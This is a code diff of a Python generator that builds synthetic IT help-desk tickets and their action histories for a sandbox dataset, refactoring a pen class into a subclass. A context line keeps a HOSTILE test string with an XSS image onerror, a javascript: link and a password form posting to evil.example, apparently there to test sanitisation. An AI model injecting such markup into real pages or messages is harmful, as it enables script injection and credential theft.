@@ -4,12 +4,12 @@ from __future__ import annotations
 
 import html
 import random
-from typing import Any
 
 from connectors.sandbox.dataset import Record, Story
-from connectors.sandbox.generator import pictures, texts
+from connectors.sandbox.generator import closed, pictures, shapes, texts
+from connectors.sandbox.generator.pen import Pen
 from connectors.sandbox.generator.people import CLEO, OTTO, ZOE
-from connectors.sandbox.generator.plan import DAY, FIX, HOUR, MINUTE, RESPOND, Slot
+from connectors.sandbox.generator.plan import FIX, HOUR, MINUTE, RESPOND, Slot
 
 WAITS = {
     "waiting": "Waiting on Client",
@@ -34,7 +34,7 @@ HOSTILE = (
     'height=1><img src=x onerror="alert(\'ticket\')"><a href="javascript:alert(1)">unsubscribe</a>'
     '<form action="https://evil.example/"><input name=password></form><style>body{display:none}</style><p>Help!</p>',
 )
-HTML_SHARE, FILE_SHARE = 0.12, 0.075
+FILE_SHARE = 0.075
 
 
 class Writer:
@@ -64,8 +64,11 @@ class Writer:
         }  # fmt: skip
         if (slot.group, slot.ordinal) in (("progress", 1), ("waiting", 5)):
             ticket["summary"], ticket["details"] = UNICODE if slot.group == "progress" else HOSTILE
-        pen = _Pen(self, ticket, problem.kind)
-        getattr(pen, "write_" + (slot.group if slot.group not in WAITS else "waits"))(slot)
+        pen = _Groups(ticket, problem.kind, dice, self._now, self.next_action)
+        if slot.group == "closed":
+            closed.write(pen, shapes.pick(dice), self._workers)
+        else:
+            getattr(pen, "write_" + (slot.group if slot.group not in WAITS else "waits"))(slot)
         ticket["last_action_at"] = pen.at
         return Story(ticket, pen.actions, self._files(ticket, pen.actions))
 
@@ -92,160 +95,50 @@ class Writer:
         }]  # fmt: skip
 
 
-class _Pen:
-    """The actions of one ticket; `at` is the instant of the last one."""
-
-    def __init__(self, writer: Writer, ticket: Record, kind: Any) -> None:
-        self._writer, self._ticket, self._kind = writer, ticket, kind
-        self._dice, self._now = writer._dice, writer._now
-        self.actions: list[Record] = []
-        self.at = ticket["created_at"]
-
-    def _to(self, at: float) -> None:
-        """Move on to an instant: after the last action, before now."""
-        self.at = min(max(int(at), self.at + 20_000), max(self._now - 30_000, self.at + 1))
-
-    def _between(self, low: float, high: float) -> float:
-        return low + (high - low) * self._dice.random()
-
-    def _add(
-        self, kind: str, body: str, *, private: bool = False, status: str = "", minutes: float = 0, client: bool = False
-    ) -> None:
-        ticket = self._ticket
-        action: Record = {
-            "id": self._writer.next_action(), "ticket_id": ticket["id"], "kind": kind, "created_at": self.at,
-            "private": private,
-            "body": body, "minutes": minutes, "billable": self._dice.random() > 0.1,
-        }  # fmt: skip
-        action["contact_id" if client else "agent_id"] = ticket["contact_id"] if client else ticket["agent_id"]
-        if status:
-            action["old_status"], action["new_status"] = ticket["status"], status
-            ticket["status"] = status
-        if not client and self._dice.random() < HTML_SHARE:
-            action["html"] = _formatted(body)
-        self.actions.append(action)
-
-    def _minutes(self) -> float:
-        return float(5 * (1 + int(self._dice.random() ** 2 * 12)))
-
-    def _pick_up(self, until: float) -> None:
-        """The first public answer, inside or outside the target, before `until`."""
-        target = RESPOND[self._ticket["priority"]]
-        delay = target * (self._between(0.05, 0.85) if self._dice.random() < 0.93 else self._between(1.02, 1.6))
-        self._to(min(self._ticket["created_at"] + delay, until))
-        self._add(
-            "email_out", texts.opener(self._dice), status="In Progress", minutes=5 if self._dice.random() < 0.4 else 0
-        )
-
-    def _work(self, until: float, chance: float = 0.55) -> None:
-        if self._dice.random() < chance:
-            self._to(self._between(self.at, until))
-            self._add("note", texts.private_note(self._dice, self._kind), private=True, minutes=self._minutes())
-        if self._dice.random() < chance * 0.45:
-            self._to(self._between(self.at, until))
-            if self._ticket["team"] == "Field" and self._dice.random() < 0.5:
-                self._add(
-                    "visit", texts.filled(self._dice, "On site: {room} checked, " + self._kind.findings[0]), minutes=60
-                )
-            else:
-                self._add("phone", texts.call_note(self._dice, self._kind), private=True, minutes=10)
-
-    def _ask_and_answer(self, until: float) -> None:
-        self._to(self._between(self.at, until))
-        self._add("email_out", texts.question(self._dice), status="Waiting on Client")
-        self._to(self.at + self._between(0.3, 26) * HOUR)
-        self._add("email_in", texts.client_reply(self._dice), status="In Progress", client=True)
-
-    def _resolve(self) -> None:
-        text = texts.resolution(self._dice, self._kind)
-        self._add("status", text, status="Resolved", minutes=self._minutes())
-        self._ticket["resolution"] = text
-        self._ticket["resolved_at"] = self.at
-
-    def _close(self) -> None:
-        self._add("status", texts.closing(self._dice), private=True, status="Closed")
-        self._ticket |= {"closed_at": self.at, "open": False}
+class _Groups(Pen):
+    """How the tickets of each group of the open queue came to stand as they do."""
 
     def write_new(self, slot: Slot) -> None:
-        self._ticket["agent_id"] = None
+        self.ticket["agent_id"] = None
 
     def write_progress(self, slot: Slot) -> None:
-        latest = self._now - self._between(3, 20) * MINUTE
-        self._pick_up(min(latest, self._ticket["created_at"] + RESPOND[self._ticket["priority"]] * 0.9))
-        self._work(latest)
-        if self._dice.random() < 0.25:
-            self._to(self._between(self.at, latest))
-            self._add("email_in", texts.client_reply(self._dice), client=True)
+        latest = self.now - self.between(3, 20) * MINUTE
+        self.pick_up(min(latest, self.ticket["created_at"] + RESPOND[self.ticket["priority"]] * 0.9))
+        self.work(latest)
+        if self.dice.random() < 0.25:
+            self.to(self.between(self.at, latest))
+            self.add("email_in", texts.client_reply(self.dice), client=True)
 
     write_at_risk = write_due_soon = write_breached = write_progress
 
     def write_waits(self, slot: Slot) -> None:
-        ticket = self._ticket
+        ticket = self.ticket
         fix = ticket["created_at"] + FIX[ticket["priority"]]
-        self._pick_up(ticket["created_at"] + RESPOND[ticket["priority"]] * 0.8)
-        self._work(ticket["created_at"] + FIX[ticket["priority"]] * 0.5)
-        self._to(self._between(self.at, min(fix, self._now)) * 0.5 + self.at * 0.5)
+        self.pick_up(ticket["created_at"] + RESPOND[ticket["priority"]] * 0.8)
+        self.work(ticket["created_at"] + FIX[ticket["priority"]] * 0.5)
+        self.to(self.between(self.at, min(fix, self.now)) * 0.5 + self.at * 0.5)
         status = WAITS[slot.group]
         if slot.group == "waiting":
-            self._add("email_out", texts.question(self._dice), status=status)
+            self.add("email_out", texts.question(self.dice), status=status)
         elif slot.group == "third_party":
-            self._add("note", texts.vendor_note(self._dice), private=True, status=status, minutes=10)
+            self.add("note", texts.vendor_note(self.dice), private=True, status=status, minutes=10)
         else:
-            self._add(
+            self.add(
                 "note", "Planned for the next maintenance window, agreed with the contact.", private=True, status=status
             )
 
     def write_reopened(self, slot: Slot) -> None:
-        created = self._ticket["created_at"]
-        self._pick_up(created + 3 * HOUR)
-        self._to(created + self._between(3.5, 9) * HOUR)
-        self._resolve()
-        self._ticket.pop("resolved_at")
-        self._to(self._now - self._between(0.4, 5) * HOUR)
-        self._add("email_in", texts.back_again(self._dice), status="In Progress", client=True)
+        created = self.ticket["created_at"]
+        self.pick_up(created + 3 * HOUR)
+        self.to(created + self.between(3.5, 9) * HOUR)
+        self.resolve()
+        self.ticket.pop("resolved_at")
+        self.to(self.now - self.between(0.4, 5) * HOUR)
+        self.add("email_in", texts.back_again(self.dice), status="In Progress", client=True)
 
     def write_resolved(self, slot: Slot) -> None:
-        created = self._ticket["created_at"]
-        self._pick_up(created + RESPOND[self._ticket["priority"]] * 0.8)
-        self._work(created + FIX[self._ticket["priority"]] * 0.7)
-        self._to(created + FIX[self._ticket["priority"]] * self._between(0.5, 0.95))
-        self._resolve()
-
-    def write_closed(self, slot: Slot) -> None:
-        dice, created = self._dice, self._ticket["created_at"]
-        is_kept = dice.random() < 0.87
-        length = FIX[self._ticket["priority"]] * (self._between(0.15, 0.92) if is_kept else self._between(1.05, 2.8))
-        end = min(created + length, self._now - 2 * HOUR)
-        self._pick_up(
-            min(end - 10 * MINUTE, created + RESPOND[self._ticket["priority"]]) if is_kept else end - 10 * MINUTE
-        )
-        self._work(end - 5 * MINUTE)
-        before = self.at
-        if dice.random() < 0.22:
-            self._ask_and_answer(end - 5 * MINUTE)
-        if dice.random() < 0.06:
-            self._to(self.at + self._between(0.2, 1) * HOUR)
-            self._add("note", texts.vendor_note(dice), private=True, status="Waiting on Third Party", minutes=10)
-            self._to(self.at + self._between(4, 40) * HOUR)
-            self._add("note", texts.vendor_back(dice), private=True, status="In Progress")
-        self._to(max(end, self.at + (end - before) * 0.3))
-        self._resolve()
-        if dice.random() < 0.04 and self.at < self._now - 3 * DAY:
-            self._to(self.at + self._between(3, 30) * HOUR)
-            self._add("email_in", texts.back_again(dice), status="In Progress", client=True)
-            self._to(self.at + self._between(0.3, 3) * HOUR)
-            self._resolve()
-        if dice.random() < 0.62:
-            self._to(self.at + self._between(0.5, 5) * DAY)
-            self._close()
-        else:
-            last = self.actions[-1]
-            last["new_status"] = self._ticket["status"] = "Closed"
-            self._ticket |= {"closed_at": self.at, "open": False}
-
-
-def _formatted(body: str) -> str:
-    """The same words with a list, a link and emphasis."""
-    parts = [part.strip() for part in body.replace("? ", "?|").replace(". ", ".|").split("|") if part.strip()]
-    items = "".join(f"<li>{html.escape(part)}</li>" for part in parts)
-    return f'<p><b>Update</b></p><ul>{items}</ul><p>More: <a href="https://help.msp.test/guide">our guide</a></p>'
+        created = self.ticket["created_at"]
+        self.pick_up(created + RESPOND[self.ticket["priority"]] * 0.8)
+        self.work(created + FIX[self.ticket["priority"]] * 0.7)
+        self.to(created + FIX[self.ticket["priority"]] * self.between(0.5, 0.95))
+        self.resolve()
